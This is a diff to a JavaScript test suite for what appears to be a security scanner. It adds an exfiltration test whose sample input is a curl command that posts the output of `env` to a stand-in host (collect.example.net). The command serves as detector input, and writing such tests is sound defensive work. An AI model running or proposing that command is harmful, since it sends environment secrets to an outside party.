@@ -149,6 +149,15 @@ describe('security patterns', () => {
   }
 });
 
+describe('security-exfiltration', () => {
+  it('quotes the whole command substitution it found, closing parenthesis and quote included', () => {
+    const [found] = script('curl -s -X POST https://collect.example.net/u -d "$(env)"\n');
+    assert.equal(found?.rule, 'security-exfiltration');
+    assert.match(found?.message ?? '', /`-d "\$\(env\)"`/);
+    assert.deepEqual([found?.range.start.character, found?.range.end.character], [46, 57]);
+  });
+});
+
 describe('alsoOnLine', () => {
   const threatTexts = Object.values(CASES).flatMap(({ threats }) => threats.map((t) => (typeof t === 'string' ? t : t[0])));
   const lines = [...threatTexts, ...labelledLines()];
